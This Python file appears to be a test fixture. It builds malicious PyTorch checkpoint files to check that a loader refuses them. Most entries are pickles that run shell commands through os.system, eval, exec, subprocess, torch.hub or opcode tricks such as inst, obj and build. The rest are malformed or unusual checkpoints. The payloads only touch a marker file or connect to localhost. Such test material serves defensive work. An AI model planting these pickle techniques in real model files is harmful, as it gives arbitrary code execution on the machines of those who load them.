"""Files of pickled weights that hold something else: code to run, or what no checkpoint needs."""

import collections
import io
import os
import socket
import subprocess
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import torch


class Call:
    """Pickled as a call of `function`."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> tuple[Any, ...]:
        return self.call


def raw(path: Path, program: str, marker: Path) -> None:
    """An archive of torch around a hand-written pickle."""
    text = program.replace("MARKER", str(marker)).encode("latin-1")
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", text)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/data/0", bytes(64))


def saved(value: Callable[[str], Any], **options: Any) -> Callable[[Path, Path], None]:
    """What `torch.save` makes of a value that runs a shell command."""
    return lambda path, marker: torch.save(value(f"touch {marker}"), path, **options)


def written(program: str) -> Callable[[Path, Path], None]:
    return lambda path, marker: raw(path, program, marker)


def bare(path: Path, marker: Path) -> None:
    path.write_bytes(f"cposix\nsystem\n(S'touch {marker}'\ntR.".encode())


def as_tar(path: Path, marker: Path) -> None:
    """The form of torch before 0.1.10."""
    with tarfile.open(path, "w") as archive:
        for name in ("sys_info", "pickle", "tensors", "storages"):
            text = f"cposix\nsystem\n(S'touch {marker}'\ntR.".encode()
            member = tarfile.TarInfo(name)
            member.size = len(text)
            archive.addfile(member, io.BytesIO(text))


def as_module(path: Path, marker: Path) -> None:
    """A whole module, whose class unpickling imports."""
    torch.save(torch.nn.Linear(2, 2), path)


def nested(command: str) -> Any:
    inner = io.BytesIO()
    torch.save(Call(os.system, command), inner)
    return {"w": Call(torch.storage._load_from_bytes, inner.getvalue())}


HOSTILE: Mapping[str, Callable[[Path, Path], None]] = {
    "os.system": saved(lambda command: {"w": Call(os.system, command)}),
    "os.system, old form": saved(
        lambda command: {"w": Call(os.system, command)}, _use_new_zipfile_serialization=False
    ),
    "no archive": bare,
    "tar": as_tar,
    "eval": saved(lambda command: {"w": Call(eval, f"__import__('os').system({command!r})")}),
    "exec": saved(lambda command: {"w": Call(exec, f"import os; os.system({command!r})")}),
    "getattr": written("c__builtin__\ngetattr\n(cposix\n__dict__\nS'system'\ntR(S'touch MARKER'\ntR."),
    "subprocess": saved(lambda command: {"w": Call(subprocess.Popen, command.split())}),
    "socket": saved(lambda command: {"w": Call(socket.create_connection, ("127.0.0.1", 9))}),
    "torch.load": saved(lambda command: {"w": Call(torch.load, "/dev/zero")}),
    "torch.hub": saved(lambda command: {"w": Call(torch.hub.load, "org/repo", "evil")}),
    "torch.hub local": written(
        "ctorch.hub\nload\n(VMARKER\nVevil\nVlocal\ntR."
    ),
    "nested pickle": saved(nested),
    "nested reduce": saved(
        lambda command: collections.OrderedDict(a=[(torch.ones(2), Call(os.system, command))])
    ),
    "state": saved(lambda command: {"w": Call(collections.OrderedDict, [["a", Call(os.system, command)]])}),
    "inst": written("(S'touch MARKER'\niposix\nsystem\n."),
    "obj": written("(cposix\nsystem\nS'touch MARKER'\no."),
    "dotted": written("\x80\x04\x8c\x05torch\x8c\x17serialization.os.system\x93(VMARKER\ntR."),
    "runstring": written("cnumpy.testing._private.utils\nrunstring\n(Vopen('MARKER','w')\n}tR."),
    "extension": written("\x80\x02\x82\x01(VMARKER\ntR."),
    "build": written("ccollections\nOrderedDict\n)R(dS'__reduce__'\ncposix\nsystem\nsb."),
    "module": as_module,
    "numbers": lambda path, marker: torch.save({"step": 3}, path),
    "list": lambda path, marker: torch.save([torch.ones(2)], path),
    "names": lambda path, marker: torch.save({3: torch.ones(2)}, path),
    "inside": lambda path, marker: torch.save({"model": {"a": torch.ones(2)}}, path),
    "sparse": lambda path, marker: torch.save({"a": torch.eye(3).to_sparse()}, path),
    "complex": lambda path, marker: torch.save({"a": torch.ones(3, dtype=torch.complex64)}, path),
    "quantized": lambda path, marker: torch.save(
        {"a": torch.quantize_per_tensor(torch.ones(3), 0.1, 0, torch.qint8)}, path
    ),
    "meta": lambda path, marker: torch.save({"a": torch.ones(3, device="meta")}, path),
    "cut off": lambda path, marker: path.write_bytes(b"PK\x03\x04" + bytes(100)),
    "empty": lambda path, marker: path.write_bytes(b""),
    "endless": written("\x80\x02" + "(" * 100_000),
    "jit": lambda path, marker: path.write_bytes(jit_archive()),
}  # fmt: skip


def jit_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in ("data.pkl", "constants.pkl", "version", "code/__torch__.py"):
            archive.writestr(f"archive/{name}", "3\n")
    return buffer.getvalue()
